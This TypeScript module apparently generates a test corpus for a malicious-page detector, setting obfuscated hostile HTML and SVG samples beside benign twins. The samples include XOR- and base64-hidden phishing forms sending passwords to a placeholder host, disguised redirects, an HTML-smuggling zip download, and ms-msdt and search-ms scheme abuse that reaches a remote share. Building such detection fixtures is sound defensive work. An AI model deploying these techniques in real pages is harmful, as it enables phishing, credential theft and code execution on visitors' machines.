import { makeZip } from '../formats/zip-sample.ts'
import { type Sample, sample, type Twin, twin, word } from './sample.ts'

const host = 'https://collect.example.invalid'
const base64 = (text: string) => Buffer.from(text).toString('base64')
const page = (body: string) =>
  `<!DOCTYPE html><html><head><title>Document</title></head><body>${body}</body></html>`
const script = (source: string) => page(`<script>${source}</script>`)
const xor = (bytes: Buffer | string, key: Buffer | string) => {
  const [from, by] = [Buffer.from(bytes), Buffer.from(key)]
  return Buffer.from(from.map((byte, at) => byte ^ (by[at % by.length] ?? 0)))
}
const form = `<form action="${host}/p"><input name="u"><input type="password" name="p"></form>`
const msdt = word('ms-', 'msdt')
const search = word('search', '-ms')
const target = `${host}/login#a@b.example`

export const hiddenPageSamples = (): Sample[] => [
  ...[
    `window.location.href="${host}/a"`,
    `location="${host}/a"`,
    `window["loc"+"ation"]="${host}/a"`,
    `self[k]=u`,
    `document.getElementById("a").setAttribute("href",u);document.getElementById("a").click()`,
    `eval(t)`,
    `window.open(u)`,
    `top.location.replace(u)`,
    `document.createElementNS(x,"script").textContent=y;document.documentElement.innerHTML=z`,
    `var s="\\x6c\\x6f";go(s)`,
    `new Image().src=u`,
    `[]["filter"]["constructor"](t)()`,
  ].map((script, at) =>
    sample(
      `drawn-${at + 1}.svg`,
      'a script of a picture that does more than draw',
      'page.svg-script',
      `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script><rect width="1" height="1"/></svg>`,
    ),
  ),
  sample(
    'numbers.html',
    'a page in a list of numbers with a key',
    'script.xor-run',
    script(
      `var d=[${[...xor(form, 'Z')].join(',')}];var o="";for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^90)}document.write(o)`,
    ),
  ),
  sample(
    'word.html',
    'the same with a word as key',
    'script.xor-run',
    script(
      `var k="invoice";var d=atob("${xor(form, 'invoice').toString('base64')}");var o="";for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));document.body.innerHTML=o`,
    ),
  ),
  sample(
    'list.html',
    'the same with a list as key',
    'script.xor-run',
    script(
      `const k=[17,34,51,68];const d=[${[...xor(form, Buffer.from([17, 34, 51, 68]))].map((byte) => `0x${byte.toString(16)}`).join(', ')}];document.write(new TextDecoder().decode(Uint8Array.from(d,(b,i)=>b^k[i%4])))`,
    ),
  ),
  sample(
    'saved.html',
    'an archive in a list of numbers with a key',
    'page.smuggling',
    script(
      `var d=[${[...xor(makeZip({ 'invoice.txt': 'hello' }), '*')].join(',')}];var u=new Uint8Array(d.map(x=>x^42));var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="invoice.zip";a.click()`,
    ),
  ),
  sample(
    'decoded.html',
    'an address in base64',
    'page.redirect-hidden',
    script(`location=atob("${base64(target)}")`),
  ),
  sample(
    'decoded-href.html',
    'the same',
    'page.redirect-hidden',
    page(
      `<p>Loading your document …</p><script>window.location.href = window.atob('${base64(target)}');</script>`,
    ),
  ),
  sample(
    'decoded-call.html',
    'the same by a call and a variable',
    'page.redirect-hidden',
    script(`var u=atob("${base64(target)}");setTimeout(function(){location.replace(u)},10)`),
  ),
  sample(
    'decoded-codes.html',
    'an address in numbers',
    'page.redirect-hidden',
    script(
      `document["location"]["href"]=String.fromCharCode(${[...Buffer.from(target)].join(',')})`,
    ),
  ),
  sample(
    'decoded-turned.html',
    'an address from the end to the beginning',
    'page.redirect-hidden',
    script(`top.location="${[...target].reverse().join('')}".split("").reverse().join("")`),
  ),
  sample(
    'diagnosis.html',
    'a program of Windows, by a script',
    'page.search-scheme',
    script(
      `window.location.href = "${msdt}:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=?\\""`,
    ),
  ),
  sample(
    'folder.html',
    'a folder of another machine, by a script',
    'page.search-scheme',
    script(
      `window.open("${search}:query=invoice&crumb=location:\\\\\\\\192.0.2.7@80\\\\share&displayname=Downloads")`,
    ),
  ),
  sample(
    'folder-frame.html',
    'the same in a frame that a script makes',
    'page.search-scheme',
    script(
      `var f=document.createElement('iframe');f.src=atob('${base64(`${search}:query=a&crumb=location:\\\\192.0.2.7\\b`)}');document.body.appendChild(f)`,
    ),
  ),
]

export const hiddenPageTwins = (): Twin[] => [
  ...[
    'function init(evt){details=document.getElementById("details").firstChild;var q=window.location.search;if(q==="?s=1")zoom()}function zoom(){document.querySelectorAll("rect").forEach(function(r){r.setAttribute("width",10)})}',
    'document.querySelectorAll("path").forEach(p => p.addEventListener("mouseover", () => { p.style.opacity = 0.5 }))',
  ].map((script, at) =>
    twin(
      `chart-${at + 1}.svg`,
      'a chart that moves',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script type="text/ecmascript"><![CDATA[${script}]]></script><rect width="1" height="1"/></svg>`,
    ),
  ),
  twin(
    'next.html',
    'a way back after a sign-in',
    page(
      `<h1>Welcome to the example shop</h1><p>You are signed in now and will be taken back to the page that you came from. If nothing happens, please use the link in our letter or write to our team.</p><script>var p=new URLSearchParams(location.search);location.href=decodeURIComponent(p.get("next")||"/");</script>`,
    ),
  ),
  twin(
    'settings.html',
    'settings in base64',
    page(
      `<p>A page of the manual.</p><script>var s=JSON.parse(atob("${base64('{"theme":"dark","url":"https://docs.example.com/"}')}"));document.title=s.theme;function go(h){window.location.hash=h}</script>`,
    ),
  ),
  twin(
    'office.html',
    'a document that Office opens',
    page(
      `<p>Our templates for letters and tables.</p><script>function edit(u){window.location.href="ms-word:ofe|u|"+u}</script>`,
    ),
  ),
  twin(
    'schemes.html',
    'a list of schemes',
    page(
      `<p>Which addresses our editor leaves alone.</p><script>var schemes=["http:","mailto:","search-ms:","ms-msdt:","tel:"];function ok(h){return schemes.some(function(s){return h.href.indexOf(s)===0})}</script>`,
    ),
  ),
  twin(
    'random.html',
    'random numbers',
    page(
      `<p>A demonstration of random numbers, drawn again with each click on the button below the picture.</p><script>var t=[${Array.from({ length: 80 }, (_, at) => (at * 91 + 13) % 256).join(',')}];function r(s){return String.fromCharCode(97+((t[s&63]^s)%26))}document.title=r(3)</script>`,
    ),
  ),
]
